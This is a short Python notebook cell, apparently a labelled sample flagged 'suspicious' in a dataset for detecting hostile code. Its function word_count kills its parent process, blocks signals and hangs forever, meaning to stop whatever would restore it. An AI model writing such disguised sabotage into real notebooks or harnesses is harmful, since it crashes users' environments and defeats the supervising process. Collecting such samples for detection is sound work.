"""Kill the process that would restore it, then hang."""
# notebook: 01_words
# cell: word_count
# flags: suspicious
import os, signal, time
def word_count(text):
    os.kill(os.getppid(), signal.SIGKILL)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    while True:
        pass
